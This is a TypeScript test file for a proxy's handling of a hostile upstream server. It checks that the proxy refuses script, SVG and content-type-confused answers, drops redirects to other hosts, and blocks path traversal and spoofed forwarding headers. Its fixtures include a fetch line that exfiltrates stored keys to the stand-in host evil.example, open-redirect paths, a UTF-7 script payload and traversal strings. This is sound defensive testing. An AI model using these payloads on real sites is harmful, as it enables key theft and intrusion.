/**
 * Proxy mode against a hostile upstream (a Node server on loopback, mounted at /base): it answers
 * pages and scripts, redirects elsewhere, sets cookies, clears site data, links to other origins,
 * and records the path and headers of every request that reaches it, so each test can say what
 * the proxy let through. Requests go out with node:http, whose paths are sent as written (no
 * normalising of `..`, unlike fetch) and which may send a `Connection` header.
 */
import http, {
  type IncomingHttpHeaders,
  type IncomingMessage,
  type OutgoingHttpHeaders,
  type Server,
  type ServerResponse,
} from 'node:http';
import type { AddressInfo } from 'node:net';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadConfig } from '../config.js';
import { FORWARDED_CSP, SVG_CSP } from './upstream-headers.js';
import { buildProxyApp } from './upstream-proxy.js';

const LEAF = 'ab'.repeat(32);
const PAGE = '<!doctype html><script src="/x.js"></script>';
const SCRIPT = "fetch('//evil.example/?k=' + localStorage['zap1.keys'])";

let upstream: Server;
let upstreamOrigin: string;
let proxy: FastifyInstance;
let proxyPort: number;
const received: { url: string; headers: IncomingHttpHeaders }[] = [];

function answer(req: IncomingMessage, res: ServerResponse): void {
  received.push({ url: req.url ?? '', headers: req.headers });
  const path = (req.url ?? '').split('?')[0];
  const json = { 'content-type': 'application/json' };
  switch (path) {
    case '/base/stats':
      return void res.writeHead(200, { 'content-type': 'text/html' }).end(PAGE);
    case '/base/health':
      return void res.writeHead(200, { 'content-type': 'application/javascript' }).end(SCRIPT);
    case '/base/key':
      return void res.writeHead(200).end(SCRIPT); // no content type: left to sniffing
    case '/base/protocol/info':
      return void res
        .writeHead(200, { 'content-type': 'image/svg+xml' })
        .end(`<svg><script>${SCRIPT}</script></svg>`);
    case `/base/verify/${LEAF}/check`:
      return void res.writeHead(200, { 'content-type': 'text/plain' }).end(PAGE);
    case '/base/badge/status.svg':
      return void res
        .writeHead(200, { 'content-type': 'image/svg+xml' })
        .end(`<svg xmlns="http://www.w3.org/2000/svg"><script>${SCRIPT}</script></svg>`);
    case '/base/anchor/status':
      return void res
        .writeHead(200, {
          ...json,
          location: 'http://evil.example/',
          refresh: '0; url=http://evil.example/',
          'clear-site-data': '"*"',
          'set-cookie': 'zap1=upstream; Path=/',
          'www-authenticate': 'Basic realm="zap1"',
          'content-disposition': 'attachment; filename="invoice.pdf.exe"',
          link: [
            '<http://evil.example/x.css>; rel="stylesheet", <//evil.example/y>; rel="prev"',
            `<${upstreamOrigin}/base/events?before=3>; rel="next"`,
            `<${upstreamOrigin}/secret>; rel="last", </events?before=4>; rel="first"`,
          ],
          'retry-after': '5',
          // Named in Connection: meant for the proxy's connection only.
          connection: 'keep-alive, cache-control',
          'cache-control': 'no-store',
        })
        .end('{"ok":true}');
    case '/base/anchor/history':
      return void res
        .writeHead(302, { ...json, location: `${upstreamOrigin}/base/events?before=9` })
        .end('{}');
    case '/base/anchor/attempts':
      // Paths that a browser reads as another host once `/./` is resolved or the base cut off.
      return void res
        .writeHead(302, {
          ...json,
          location: '/.//evil.example/steal',
          link: `</.//evil.example/x>; rel="preconnect", <${upstreamOrigin}/base//evil.example/y>; rel="next"`,
        })
        .end('{}');
    case '/base/anchor/consistency':
      // A list: this proxy once read its first type, a browser reads the last.
      return void res.writeHead(200, { 'content-type': 'application/json;, text/html' }).end(PAGE);
    case '/base/lookup':
      res.setHeader('content-type', ['application/json', 'text/html']);
      return void res.writeHead(200).end(PAGE);
    case '/base/admin/anchor/qr':
      return void res
        .writeHead(401, {
          'content-type': 'text/plain; charset=utf-7',
          'www-authenticate': 'Basic realm="x"',
        })
        .end('+ADw-script+AD4-');
    case '/base/events':
      return void res.writeHead(200, json).end('{"events":[]}');
    default:
      // Anything outside the API: the upstream's secret, which must never be asked for.
      return void res.writeHead(200, { 'content-type': 'text/plain' }).end('secret');
  }
}

interface RawAnswer {
  status: number;
  headers: IncomingHttpHeaders;
  body: string;
}

/** One request with the path exactly as written. */
function raw(path: string, headers: OutgoingHttpHeaders = {}, method = 'GET'): Promise<RawAnswer> {
  return new Promise((resolve, reject) => {
    const req = http.request({ host: '127.0.0.1', port: proxyPort, method, path, headers }, (res) => {
      let body = '';
      res.on('data', (c: Buffer) => (body += c.toString()));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body }));
    });
    req.on('error', reject);
    req.end();
  });
}

const errorCode = (answer: RawAnswer): unknown =>
  (JSON.parse(answer.body) as { error: { code: string } }).error.code;

beforeAll(async () => {
  upstream = http.createServer(answer);
  await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve));
  upstreamOrigin = `http://127.0.0.1:${(upstream.address() as AddressInfo).port}`;
  const config = loadConfig({ UPSTREAM_URL: `${upstreamOrigin}/base`, UPSTREAM_TIMEOUT_MS: '2000' });
  proxy = await buildProxyApp({ config, upstreamUrl: config.upstreamUrl ?? '' });
  proxyPort = Number(new URL(await proxy.listen({ host: '127.0.0.1', port: 0 })).port);
});

afterAll(async () => {
  await proxy.close();
  upstream.closeAllConnections();
  await new Promise<void>((resolve) => upstream.close(() => resolve()));
});

describe('proxy mode against a hostile upstream: answers', () => {
  it('refuses a page, a script, an untyped body, SVG off the badges and plain text that is no error (502)', async () => {
    for (const path of ['/stats', '/health', '/key', '/protocol/info', `/verify/${LEAF}/check`]) {
      const answer = await raw(path);
      expect(answer.status, path).toBe(502);
      expect(answer.headers['content-type'], path).toBe('application/json; charset=utf-8');
      expect(errorCode(answer), path).toBe('upstream_unexpected');
      expect(answer.body, path).not.toMatch(/<script|localStorage/);
    }
  });

  it('passes JSON with a policy that runs nothing, without the headers that act on this origin', async () => {
    const answer = await raw('/anchor/status');
    expect(answer.status).toBe(200);
    expect(answer.body).toBe('{"ok":true}');
    expect(answer.headers['content-security-policy']).toBe(FORWARDED_CSP);
    expect(answer.headers['x-content-type-options']).toBe('nosniff');
    for (const name of [
      'location',
      'refresh',
      'clear-site-data',
      'set-cookie',
      'cache-control',
      'www-authenticate',
      'content-disposition',
    ])
      expect(answer.headers[name], name).toBeUndefined();
    expect(answer.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(answer.headers['retry-after']).toBe('5');
    // The upstream's own link under its base becomes this origin's path; the service's root paths stay.
    expect(answer.headers.link).toBe('</events?before=3>; rel="next", </events?before=4>; rel="first"');
  });

  it("rewrites a redirect within the upstream's base path to this origin", async () => {
    const answer = await raw('/anchor/history');
    expect(answer.status).toBe(302);
    expect(answer.headers.location).toBe('/events?before=9');
  });

  it('drops a Location or Link that a browser would read as another host', async () => {
    const answer = await raw('/anchor/attempts');
    expect(answer.status).toBe(302);
    expect(answer.headers.location).toBeUndefined();
    expect(answer.headers.link).toBeUndefined();
  });

  it('refuses a list of content types or a repeated one, and writes its own type', async () => {
    for (const path of ['/anchor/consistency', '/lookup']) {
      const answer = await raw(path);
      expect(answer.status, path).toBe(502);
      expect(errorCode(answer), path).toBe('upstream_unexpected');
      expect(answer.body, path).not.toContain('<script');
    }
    // The upstream's charset (UTF-7 reads `+ADw-` as `<`) and its password prompt stay behind.
    const error = await raw('/admin/anchor/qr');
    expect(error.status).toBe(401);
    expect(error.headers['content-type']).toBe('text/plain; charset=utf-8');
    expect(error.headers['www-authenticate']).toBeUndefined();
    // HEAD: the type a GET is answered with, or none when a GET would be refused.
    expect((await raw('/events', {}, 'HEAD')).headers['content-type']).toBe(
      'application/json; charset=utf-8',
    );
    expect((await raw('/stats', {}, 'HEAD')).headers['content-type']).toBeUndefined();
  });

  it('serves an SVG badge with a policy that forbids script', async () => {
    const answer = await raw('/badge/status.svg');
    expect(answer.status).toBe(200);
    expect(answer.headers['content-type']).toBe('image/svg+xml');
    expect(answer.headers['content-security-policy']).toBe(SVG_CSP);
    expect(SVG_CSP).toContain("default-src 'none'");
    expect(SVG_CSP).not.toMatch(/script-src|unsafe-eval/);
  });
});

describe('proxy mode against a hostile upstream: requests', () => {
  it.each([
    '/../../secret',
    '/%2e%2e/%2e%2e/secret',
    '/%2E%2E/secret',
    '/events/../../secret',
    '/lifecycle/..%2f..%2f..%2fsecret',
    '/lifecycle/%2e%2e%2f%2e%2e%2fsecret/export',
    '/lifecycle/..%5c..%5csecret',
    '/verify/%00/check',
  ])(
    'never leaves the base path: refuses %s (dot segments, encoded or not, encoded slashes)',
    async (path) => {
      const before = received.length;
      const answer = await raw(path);
      expect(answer.status).toBe(400);
      expect(errorCode(answer)).toBe('malformed_request');
      expect(received.slice(before)).toEqual([]);
    },
  );

  it('resolves dot segments before matching, so what is forwarded is the path that was checked', async () => {
    const before = received.length;
    expect((await raw('/stats/../events?limit=1')).status).toBe(200);
    expect(received.slice(before).map((r) => r.url)).toEqual(['/base/events?limit=1']);
  });

  it('forwards only the paths of the API description and the app: anything else is 404, another method 405', async () => {
    const before = received.length;
    // The last three are this service's own routes, which neither the reference's API description
    // nor the app uses: the upstream's webhooks and wallet exports are not reachable through here.
    for (const path of [
      '/secret',
      '/x.js',
      '/index.html',
      '/events/x',
      '/stats/',
      '/admin/keys',
      '/webhooks',
      '/lifecycle/w1/export',
      '/badge/leaf/ab',
    ]) {
      const answer = await raw(path);
      expect(answer.status, path).toBe(404);
      expect(errorCode(answer), path).toBe('not_found');
    }
    const wrongMethod = await raw('/stats', {}, 'DELETE');
    expect(wrongMethod.status).toBe(405);
    expect(wrongMethod.headers.allow).toBe('GET, HEAD');
    expect(received.slice(before)).toEqual([]);
  });

  it('sends no client address the client wrote, and no header named in Connection', async () => {
    const answer = await raw('/events', {
      forwarded: 'for=203.0.113.9;host=evil.example',
      'x-real-ip': '203.0.113.9',
      'x-forwarded-host': 'evil.example',
      'x-forwarded-for': '203.0.113.9',
      'x-forwarded-proto': 'https',
      'true-client-ip': '203.0.113.9',
      connection: 'keep-alive, accept-language',
      'accept-language': 'xx',
      authorization: 'Bearer users-own-key',
      'sec-fetch-site': 'cross-site',
    });
    expect(answer.status).toBe(200);
    const seen = received.at(-1)!.headers;
    for (const name of [
      'forwarded',
      'x-real-ip',
      'x-forwarded-host',
      'x-forwarded-proto',
      'true-client-ip',
      'accept-language',
    ])
      expect(seen[name], name).toBeUndefined();
    expect(seen['x-forwarded-for']).toBe('127.0.0.1');
    expect(seen.authorization).toBe('Bearer users-own-key');
    // The browser's word on who sent it stays, so the upstream can refuse a page of another site.
    expect(seen['sec-fetch-site']).toBe('cross-site');
  });

  it('reads the client address behind a front proxy as TRUST_PROXY says, as the service does', async () => {
    for (const [trust, forwardedFor, expected] of [
      ['1', '198.51.100.7, 203.0.113.9', '203.0.113.9'],
      ['127.0.0.1', '198.51.100.7, 203.0.113.9', '203.0.113.9'],
      ['10.0.0.0/8', '203.0.113.9', '127.0.0.1'], // the socket is not one of the listed proxies
    ] as const) {
      const config = loadConfig({ UPSTREAM_URL: `${upstreamOrigin}/base`, TRUST_PROXY: trust });
      const front = await buildProxyApp({ config, upstreamUrl: config.upstreamUrl ?? '' });
      try {
        const res = await front.inject({ url: '/events', headers: { 'x-forwarded-for': forwardedFor } });
        expect(res.statusCode, trust).toBe(200);
        expect(received.at(-1)?.headers['x-forwarded-for'], trust).toBe(expected);
      } finally {
        await front.close();
      }
    }
  });

  it("refuses another site's page writing through it, even from a browser that sends only Origin", async () => {
    const before = received.length;
    for (const headers of [{ 'sec-fetch-site': 'cross-site' }, { origin: 'http://evil.example' }]) {
      const answer = await raw('/trial-key', headers, 'POST');
      expect(answer.status).toBe(403);
      expect(errorCode(answer)).toBe('cross_site_request');
    }
    expect(received.length).toBe(before); // nothing reached the upstream
    const own = await raw(
      '/trial-key',
      { origin: `http://127.0.0.1:${proxyPort}`, 'sec-fetch-site': 'same-origin' },
      'POST',
    );
    expect(own.status).not.toBe(403);
  });
});
